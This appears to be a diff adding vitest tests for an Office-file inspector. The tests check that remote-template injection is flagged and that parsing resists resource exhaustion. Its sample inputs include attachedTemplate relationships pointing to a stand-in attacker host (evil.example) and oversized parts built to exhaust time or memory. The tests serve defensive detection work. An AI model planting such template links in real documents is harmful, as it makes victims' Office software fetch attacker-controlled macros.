@@ -1,0 +1,33 @@
+import { strToU8, type ZippableFile } from 'fflate';
+import { describe, expect, test } from 'vitest';
+import { officeFile } from '../../testing/sample-files.ts';
+import { type DocumentFormat, inspectFile } from './inspect-file.ts';
+
+const inspect = (bytes: Uint8Array, format: DocumentFormat) => inspectFile(Buffer.from(bytes), format);
+
+describe('abuse 58: a template from the net', () => {
+  test.each([
+    `<r:Relationship Target = 'https://evil.example/t.dotm' Type='http://x/attachedTemplate'/>`,
+    '<Relationship Id=">" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm"/>',
+  ])('is found however its element is written: %s', async (element) => {
+    const part = { 'word/_rels/settings.xml.rels': strToU8(`<Relationships>${element}</Relationships>`) };
+    expect(await inspect(officeFile('docx', part), 'docx')).toBe('dangerous');
+  });
+});
+
+describe('abuse 60: what takes time or memory without measure', () => {
+  test('a part that is nothing but beginnings of an element is read in the time of its length', async () => {
+    const beginnings = strToU8('<Relationship attachedTemplate '.repeat(120_000));
+    // Not packed, so that the archive is no bomb.
+    const file = officeFile('docx', { 'word/_rels/settings.xml.rels': [beginnings, { level: 0 }] });
+    expect(await inspect(file, 'docx')).toBeNull();
+  });
+
+  test('parts that are each small enough are too much together', async () => {
+    const part: ZippableFile = [new Uint8Array(3_900_000), { level: 0 }];
+    const links = (count: number) =>
+      Object.fromEntries(Array.from({ length: count }, (_, at) => [`xl/externalLinks/${at}.xml`, part]));
+    expect(await inspect(officeFile('xlsx', links(2)), 'xlsx')).toBeNull();
+    expect(await inspect(officeFile('xlsx', links(9)), 'xlsx')).toBe('dense');
+  });
+});
